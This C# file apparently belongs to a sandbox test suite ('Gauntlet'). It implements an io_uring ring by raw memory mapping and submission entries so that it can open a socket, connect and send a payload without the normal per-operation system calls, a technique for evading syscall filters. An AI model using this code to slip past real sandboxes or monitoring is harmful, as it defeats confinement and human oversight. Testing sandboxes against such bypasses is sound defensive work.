namespace CapitalOs.Seal.Gauntlet.Attack;

/// <summary>An io_uring: operations that the kernel performs without a system call for each.</summary>
internal sealed unsafe class Ring
{
    private const int Entries = 4;
    private const int ParameterBytes = 120;
    private const int EntryBytes = 64;
    private const int ReadWriteShared = 1;
    private const int Populate = 0x8000;
    private const int ReadWrite = 3;
    private const long SubmissionOffset = 0;
    private const long CompletionOffset = 0x8000000;
    private const long EntriesOffset = 0x10000000;
    private const int RingBytes = 4096;
    private const int WaitForEvents = 1;

    private readonly int _fd;
    private readonly byte* _submission;
    private readonly byte* _completion;
    private readonly byte* _entries;
    private readonly byte[] _parameters = new byte[ParameterBytes];

    internal Ring()
    {
        fixed (byte* at = _parameters)
        {
            _fd = (int)Kernel.Need("io_uring_setup", Entries, (nint)at);
        }

        _submission = Map(SubmissionOffset);
        _completion = Map(CompletionOffset);
        _entries = Map(EntriesOffset);
    }

    internal int Socket(int family, int type) => Perform("ring socket", 45, family, 0, 0, type);

    internal void Connect(int socket, byte[] address)
    {
        fixed (byte* at = address)
        {
            _ = Perform("ring connect", 16, socket, (nint)at, 0, address.Length);
        }
    }

    internal void Send(int socket)
    {
        fixed (byte* at = AttackTarget.Payload)
        {
            _ = Perform("ring send", 26, socket, (nint)at, AttackTarget.Payload.Length, 0);
        }
    }

    private int Perform(string step, byte operation, int fd, nint address, int length, long offset)
    {
        uint tail = *Word(_submission, 44);
        uint index = tail & *Word(_submission, 48);
        byte* entry = _entries + (index * EntryBytes);
        new Span<byte>(entry, EntryBytes).Clear();
        entry[0] = operation;
        *(int*)(entry + 4) = fd;
        *(long*)(entry + 8) = offset;
        *(long*)(entry + 16) = address;
        *(int*)(entry + 24) = length;
        *((uint*)(_submission + Parameter(64)) + index) = index;
        Volatile.Write(ref *Word(_submission, 44), tail + 1);
        _ = Kernel.Need("io_uring_enter", _fd, 1, 1, WaitForEvents);
        uint head = *Word(_completion, 80);
        byte* done = _completion + Parameter(100) + ((head & *Word(_completion, 88)) * 16);
        int result = *(int*)(done + 8);
        Volatile.Write(ref *Word(_completion, 80), head + 1);
        return result >= 0 ? result : throw new AttackFailure(step, -result);
    }

    /// <summary>A word of a ring; where it lies, the kernel wrote into the parameters.</summary>
    private uint* Word(byte* ring, int parameter) => (uint*)(ring + Parameter(parameter));

    private uint Parameter(int at) => BitConverter.ToUInt32(_parameters, at);

    private byte* Map(long offset) => (byte*)Kernel.Need(
        "mmap", 0, RingBytes, ReadWrite, ReadWriteShared | Populate, _fd, (nint)offset);
}
